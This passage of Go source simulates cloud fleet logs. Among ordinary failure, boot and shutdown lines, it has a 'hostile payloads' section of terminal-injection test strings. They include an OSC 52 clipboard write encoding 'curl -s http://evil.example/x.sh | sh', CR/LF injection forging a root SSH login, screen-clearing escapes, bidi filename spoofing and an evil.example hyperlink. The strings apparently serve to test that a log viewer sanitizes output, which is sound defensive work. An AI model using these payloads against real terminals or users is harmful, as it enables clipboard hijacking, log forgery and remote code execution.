	}
	up := fmt.Sprintf("[%d.%06d]", n.rng.IntN(900000), n.rng.IntN(1000000))
	switch n.rng.IntN(7) {
	case 0:
		n.syslog(t, sevError, "kernel", fmt.Sprintf("%s Out of memory: Killed process %d (%s) total-vm:%dkB, anon-rss:%dkB, file-rss:0kB, shmem-rss:0kB, UID:1000 pgtables:%dkB oom_score_adj:0", up, n.pid, main, 4000000+n.rng.IntN(900000), 3600000+n.rng.IntN(300000), 7000+n.rng.IntN(900)))
	case 1:
		n.syslog(t, sevError, "kernel", fmt.Sprintf("%s INFO: task %s:%d blocked for more than 120 seconds.\n%s       Not tainted 6.1.0-28-cloud-amd64 #1 Debian 6.1.119-1\n%s \"echo 0 > /proc/sys/kernel/hung_task_timeout_secs\" disables this message.", up, pick(n, []string{"jbd2/sda1-8", "kworker/u4:2", main}), 300+n.rng.IntN(9000), up, up))
	case 2:
		n.syslog(t, sevError, "systemd[1]", fmt.Sprintf("%s.service: Failed with result 'oom-kill'.", main))
	case 3:
		n.syslog(t, sevWarning, "systemd-journald[301]", "Under memory pressure, flushing caches.")
	case 4:
		n.syslog(t, sevError, fmt.Sprintf("consul[%d]", n.pid-3), fmt.Sprintf("%s [ERROR] agent: Coordinate update error: error=\"rpc error making call: EOF\"", t.UTC().Format("2006-01-02T15:04:05.000Z")))
	case 5:
		n.syslog(t, sevError, fmt.Sprintf("google_guest_agent[%d]", n.pid-40), "Error watching metadata: context deadline exceeded (Client.Timeout exceeded while awaiting headers)")
	default:
		b := &badCheck{status: "critical", role: main}
		if main == "nginx" {
			n.upstreamError(t, sev, true)
			return
		}
		n.failure(t, b)
	}
}

func (n *logNode) diskFullLine(t time.Time, sev ltype.LogSeverity) {
	switch n.rng.IntN(3) {
	case 0:
		n.syslog(t, sev, "kernel", fmt.Sprintf("[%d.%06d] EXT4-fs warning (device sda1): ext4_dx_add_entry:2553: Directory index full!", n.rng.IntN(900000), n.rng.IntN(1000000)))
	case 1:
		n.syslog(t, sev, "systemd-journald[301]", "Failed to write entry (22 items, 705 bytes), ignoring: No space left on device")
	default:
		n.syslog(t, sev, fmt.Sprintf("CRON[%d]", n.pid+n.rng.IntN(9000)), "(root) MAIL (mailed 1 byte of output; but got status 0x004b, #012: write error: No space left on device)")
	}
}

// recovery writes the lines of a check that passes again.
func (n *logNode) recovery(t time.Time, b *badCheck) {
	down := t.Sub(b.since).Round(100 * time.Millisecond)
	before := t.Add(-time.Duration(300+n.rng.IntN(1500)) * time.Millisecond)
	switch b.role {
	case "web", "lb":
		n.nginxError(before, sevNotice, "notice", fmt.Sprintf("upstream %s:9090 is up again after %s", n.peer(), down))
		n.access(t, "GET", "/health", 200, time.Duration(2+n.rng.IntN(8))*time.Millisecond, "Consul Health Check")
	case "cache":
		n.text(before, logApp, sevNotice, fmt.Sprintf("%d:M %s * Synchronization with replica %s:6379 succeeded", n.pid, before.UTC().Format("02 Jan 2006 15:04:05.000"), n.peer()))
	case "db":
		n.text(before, logApp, sevInfo, fmt.Sprintf("%s UTC [%d] LOG:  database system is ready to accept connections", before.UTC().Format("2006-01-02 15:04:05.000"), n.pid))
	case "queue":
		n.text(before, logApp, sevNotice, fmt.Sprintf("%s [info] <0.%d.0> memory resource limit alarm cleared on node rabbit@%s", before.UTC().Format("2006-01-02 15:04:05.000000-07:00"), 1000+n.rng.IntN(9000), n.name))
	case "search":
		n.json(before, logApp, sevInfo, map[string]any{
			"@timestamp": before.UTC().Format(time.RFC3339Nano), "log.level": "INFO", "log.logger": "o.e.c.r.a.AllocationService",
			"message":                 fmt.Sprintf("Cluster health status changed from [YELLOW] to [GREEN] (reason: [shards started [[orders-%s][0]]]).", before.UTC().Format("2006.01.02")),
			"elasticsearch.node.name": n.name, "ecs.version": "1.2.0", "service.name": "ES_ECS",
		})
	case "":
		n.syslog(before, sevNotice, "systemd-journald[301]", "Memory pressure relieved; journal flushing resumed.")
	default:
		n.json(before, logApp, sevNotice, map[string]any{
			"message": "dependency healthy again", "logger": "health", "service": b.role, "version": n.version(b.role),
			"down_for": down.String(), "pool_in_use": 10 + n.rng.IntN(30), "pool_size": 100,
		})
	}
	n.syslog(t, sevInfo, fmt.Sprintf("consul[%d]", n.pid-3), fmt.Sprintf("%s [INFO]  agent: Synced check: check=%s", t.UTC().Format("2006-01-02T15:04:05.000Z"), n.checkIDFor(b)))
}

func (n *logNode) checkIDFor(b *badCheck) string {
	if b.role == "" {
		return NodeCheckID
	}
	return "service:" + b.role
}

// ---- joins and leaves ----

// boot writes the boot of a node that joined, in the seconds before it
// registered.
func (n *logNode) boot(ev SimEvent) {
	t0 := ev.Time.Add(-time.Duration(35+n.rng.IntN(15)) * time.Second)
	at := func(s float64) time.Time { return t0.Add(time.Duration(s * float64(time.Second))) }
	up := func(s float64) string { return fmt.Sprintf("[%12.6f]", s) }
	n.syslog(at(0), sevInfo, "kernel", up(0)+" Linux version 6.1.0-28-cloud-amd64 (debian-kernel@lists.debian.org) (gcc-12 (Debian 12.2.0-14) 12.2.0, GNU ld (GNU Binutils for Debian) 2.40) #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22)")
	n.syslog(at(0.01), sevInfo, "kernel", up(0.01)+" Command line: BOOT_IMAGE=/boot/vmlinuz-6.1.0-28-cloud-amd64 root=PARTUUID=6e7a1c2d-01 ro console=tty0 console=ttyS0,115200 earlyprintk=ttyS0,115200 scsi_mod.use_blk_mq=Y")
	n.syslog(at(4.2), sevInfo, "systemd[1]", "Starting cloud-init.service - Cloud-init: Network Stage...")
	n.syslog(at(6.3), sevInfo, "cloud-init[412]", fmt.Sprintf("Cloud-init v. 24.1.3 running 'init' at %s. Up 6.21 seconds.", at(6.3).UTC().Format(time.RFC1123Z)))
	n.syslog(at(6.9), sevInfo, "cloud-init[412]", fmt.Sprintf("ci-info: |  ens4  | True |  %s  | 255.255.255.255 | global | 42:01:0a:%s |", n.addr, n.hex(2)+":"+n.hex(2)+":"+n.hex(2)))
	n.syslog(at(9.5), sevInfo, fmt.Sprintf("google_guest_agent[%d]", n.pid-40), "GCE Agent Started (version 20241018.00)")
	n.syslog(at(14.1), sevInfo, "systemd[1]", "Started consul.service - Consul Agent.")
	for i, r := range n.roles {
		s := 16 + float64(i)*1.5
		n.syslog(at(s), sevInfo, "systemd[1]", fmt.Sprintf("Started %s.service - %s %s.", r, r, n.version(r)))
		if r == "web" || r == "lb" {
			n.nginxError(at(s+0.2), sevNotice, "notice", "using the \"epoll\" event method")
			n.nginxError(at(s+0.3), sevNotice, "notice", "start worker processes")
		}
	}
	if role := n.appRole(); role != "" {
		n.json(at(19), logApp, sevInfo, map[string]any{"message": fmt.Sprintf("starting %s %s", role, n.version(role)), "logger": "main", "service": role, "version": n.version(role), "pid": n.pid})
		n.json(at(19.4), logApp, sevInfo, map[string]any{"message": fmt.Sprintf("listening on :%d", n.port(role)), "logger": "main", "service": role, "version": n.version(role)})
	}
	n.syslog(at(25), sevInfo, "cloud-init[812]", fmt.Sprintf("fleetdeck-bootstrap: instance %s joining group %s (%s)", n.iid, n.group, ev.Reason))
	n.syslog(at(31), sevInfo, "cloud-init[812]", fmt.Sprintf("Cloud-init v. 24.1.3 finished at %s. Datasource DataSourceGCE.  Up 31.04 seconds", at(31).UTC().Format(time.RFC1123Z)))
	last := ev.Time.Add(-50 * time.Millisecond)
	n.syslog(last, sevInfo, fmt.Sprintf("consul[%d]", n.pid-3), fmt.Sprintf("%s [INFO]  agent: (LAN) joined: number_of_nodes=1", last.UTC().Format("2006-01-02T15:04:05.000Z")))
	n.syslog(ev.Time, sevInfo, fmt.Sprintf("consul[%d]", n.pid-3), fmt.Sprintf("%s [INFO]  agent: Synced node info", ev.Time.UTC().Format("2006-01-02T15:04:05.000Z")))
}

// shutdown writes a node's last lines before it leaves: a graceful drain
// for scale-in, a termination by the autoscaler for auto-heal.
func (n *logNode) shutdown(ev SimEvent) {
	t0 := ev.Time.Add(-time.Duration(3000+n.rng.IntN(2000)) * time.Millisecond)
	at := func(s float64) time.Time { return t0.Add(time.Duration(s * float64(time.Second))) }
	healed := strings.HasPrefix(ev.Reason, "auto-heal")
	if healed {
		n.syslog(at(0), sevWarning, fmt.Sprintf("google_guest_agent[%d]", n.pid-40), fmt.Sprintf("Instance %s terminated by autoscaler: failed health checks (%s)", n.iid, ev.Reason))
		n.syslog(at(0.2), sevInfo, "systemd-logind[512]", "Power key pressed short.")
		n.syslog(at(0.3), sevInfo, "systemd-logind[512]", "Powering off...")
	} else {
		n.syslog(at(0), sevNotice, fmt.Sprintf("google_guest_agent[%d]", n.pid-40), fmt.Sprintf("Instance %s is being terminated (%s by %s), shutting down", n.iid, ev.Reason, n.group))
	}
	if role := n.appRole(); role != "" {
		n.json(at(0.5), logApp, sevInfo, map[string]any{"message": "received SIGTERM, draining connections", "logger": "main", "service": role, "in_flight": n.rng.IntN(12)})
		n.json(at(1.5), logApp, sevInfo, map[string]any{"message": "shutting down: server stopped", "logger": "main", "service": role})
	}
	for i, r := range n.roles {
		n.syslog(at(1.6+float64(i)*0.1), sevInfo, "systemd[1]", fmt.Sprintf("Stopping %s.service - %s...", r, r))
	}
	n.syslog(at(2), sevInfo, fmt.Sprintf("consul[%d]", n.pid-3), fmt.Sprintf("%s [INFO]  agent: Gracefully shutting down agent...", at(2).UTC().Format("2006-01-02T15:04:05.000Z")))
	n.syslog(at(2.3), sevInfo, "systemd-shutdown[1]", "Syncing filesystems and block devices.")
	n.syslog(ev.Time.Add(-10*time.Millisecond), sevNotice, "kernel", fmt.Sprintf("[%d.%06d] reboot: Power down", n.rng.IntN(900000), n.rng.IntN(1000000)))
}

// ---- hostile payloads ----

// hostilePayloads are what the spec's hostile nodes log besides their
// ordinary lines: everything a terminal must not interpret. Protobuf
// strings are UTF-8, so invalid UTF-8 cannot travel through the API (a real
// agent substitutes U+FFFD, as the seventh does).
func (n *logNode) hostileEntry(t time.Time) {
	k := n.hostileSeq % 10
	n.hostileSeq++
	// Never ERROR or above: in the demo every error lines up with an
	// incident, hostile nodes included.
	sev := []ltype.LogSeverity{sevInfo, sevNotice, sevWarning}[n.hostileSeq%3]
	osc52 := "\x1b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaA==\x07" // "curl -s http://evil.example/x.sh | sh"
	switch k {
	case 0: // clear screen and home cursor in a request line and user agent
		if n.hasRole("web", "lb") {
			n.access(t, "GET", "/search?q=\x1b[2J\x1b[H", 404, 3*time.Millisecond, "Mozilla/5.0 \x1b]0;pwned\x07\x1b[2J")
		} else {
			n.json(t, logApp, sev, map[string]any{"message": "request completed", "logger": "http", "route": "/search?q=\x1b[2J\x1b[H", "status": 404, "user_agent": "Mozilla/5.0 \x1b]0;pwned\x07\x1b[2J"})
		}
	case 1: // OSC 52 clipboard write
		n.json(t, logApp, sev, map[string]any{"message": "copied to clipboard: " + osc52 + "done", "logger": "hostile", "note": osc52})
	case 2: // bells and a window title
		n.syslog(t, sev, "motd", "\a\a\a\x1b]0;rm -rf / finished\x07\x1b]2;root@prod\x07 welcome")
	case 3: // CR/LF injection forging a second line, then erasing it
		n.text(t, logSyslog, sev, fmt.Sprintf("%s %s sshd[1]: Failed password for invalid user admin\r\n%s db-01 sshd[1]: Accepted password for root from 203.0.113.66 port 22 ssh2\r\x1b[1A\x1b[2K\b\b\b\b", t.UTC().Format(time.Stamp), n.name, t.UTC().Format(time.Stamp)))
	case 4: // C1 controls (8-bit CSI, NEL), NUL, DEL
		n.text(t, logApp, sev, "C1 CSI:\u009b2J\u009b31mred\u009b0m next line:\u0085 NUL:\x00 DEL:\x7f OSC:\u009d0;title\u009c end")
	case 5: // bidi overrides and invisible characters
		n.text(t, logApp, sev, "invoice \u202efdp.exe\u202c \u2066isolated\u2069 zero\u200bwidth\u200d join \ufeffBOM \u2028line separator\u2029paragraph")
	case 6: // what an agent makes of invalid UTF-8, and mojibake
		n.text(t, logApp, sev, "undecodable bytes replaced: \ufffd\ufffd(\ufffd\ufffd; mojibake: CafÃ© â€” naÃ¯ve Ã¼ber")
	case 7: // hostile JSON: escape sequences in keys and values, deep nesting
		deep := map[string]any{"bottom": "\x1b[5mblink\x1b[0m"}
		for i := 0; i < 40; i++ {
			deep = map[string]any{fmt.Sprintf("level%02d", i): deep}
		}
		n.json(t, logApp, sev, map[string]any{
			"message":     "\x1b[?1049h\x1b[6nalternate screen and a cursor position report",
			"\x1b[31mkey": "escape in a key",
			"link":        "\x1b]8;;https://evil.example/\x07click me\x1b]8;;\x07",
			"multi":       "line one\nline two\r\n\tline three",
			"nested":      deep,
		})
	case 8: // escape sequences in labels and source location
		e := n.text(t, logApp, sev, "request from a hostile proxy")
		e.Labels = map[string]string{"hostname": n.name, "x-forwarded-for": "\x1b[2J\x1b[31m203.0.113.9", "note\x1b[7m": "\a"}
		e.SourceLocation = &loggingpb.LogEntrySourceLocation{File: "\x1b[8mhidden.go", Line: 1, Function: "main.(*T).\x1b]0;x\x07Run"}
	default: // a wide line: emoji, ZWJ sequences and CJK
		n.text(t, logApp, sev, strings.Repeat("🔥👩‍💻数据库チーム데이터 ", 200))
	}
}

// longLine writes one very long line, with an escape sequence hidden near
// its end where a careless truncation would not cut it off.
func (n *logNode) longLine(t time.Time) {
	size := n.l.opts.LongLine
	head := "request body dump: "
	tail := " \x1b[2J\x1b[Hend of dump"
	var b strings.Builder
	b.Grow(size)
	b.WriteString(head)
	const chunk = "eyJvcmRlciI6MTIzNDUsIml0ZW1zIjpbeyJza3UiOiJBQkMtMTIzIiwicXR5IjoyfV19"
	for b.Len() < size-len(tail) {
		b.WriteString(chunk[:min(len(chunk), size-len(tail)-b.Len())])
	}
	b.WriteString(tail)
	log := logApp
	if n.appRole() == "" {
		log = logSyslog
	}
	n.text(t, log, sevWarning, b.String())
}
